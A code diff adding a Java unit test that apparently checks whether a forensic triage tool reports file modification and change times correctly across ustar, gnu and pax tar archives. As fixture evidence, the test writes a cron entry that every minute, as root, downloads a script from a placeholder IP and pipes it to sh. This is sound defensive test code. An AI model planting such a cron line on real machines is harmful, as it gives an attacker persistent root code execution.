@@ -22,6 +22,7 @@ import java.nio.file.Path;
 import java.nio.file.attribute.FileTime;
 import java.nio.file.attribute.PosixFilePermissions;
 import java.time.Instant;
+import java.time.temporal.ChronoUnit;
 import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.List;
@@ -113,6 +114,33 @@ final class TarHostTest {
                 .containsEntry("/bin", FileType.LINK)
                 .containsEntry("/etc/cron.d", FileType.DIRECTORY)
                 .doesNotContainKey("/bin/tool");
+    }
+
+    /// A time that anybody can set is not told as the one that only the kernel sets.
+    @Test
+    void tellsNoTimesThatItDoesNotKeep() throws Exception {
+        Path tree = tree();
+        Path job = tree.resolve("etc/cron.d/x");
+        Files.writeString(job, "* * * * * root curl -fsSL http://198.51.100.23/b | sh\n");
+        var changed = (FileTime) Files.getAttribute(job, "unix:ctime");
+        String second = changed.toInstant().truncatedTo(ChronoUnit.SECONDS).toString();
+        for (String form : List.of("--format=ustar", "--format=gnu", "--format=pax")) {
+            var host = pack(tree, form, ".");
+            try (var _ = (Archived) host) {
+                var report = SampleCollection.triage(host);
+                boolean keeps = form.endsWith("pax");
+                assertThat(report.findings()).isNotEmpty();
+                assertThat(report.findings().getFirst().evidence())
+                        .as(form)
+                        .containsKey("file.mtime")
+                        .doesNotContainKey("file.created")
+                        .extractingByKey("file.ctime")
+                        .isEqualTo(keeps ? second : null);
+                assertThat(SampleCollection.missed(report).stream())
+                        .filteredOn(text -> text.contains("keeps no change or creation times"))
+                        .hasSize(keeps ? 0 : 1);
+            }
+        }
     }
 
     static SortedMap<String, FileType> walked(Host host) {
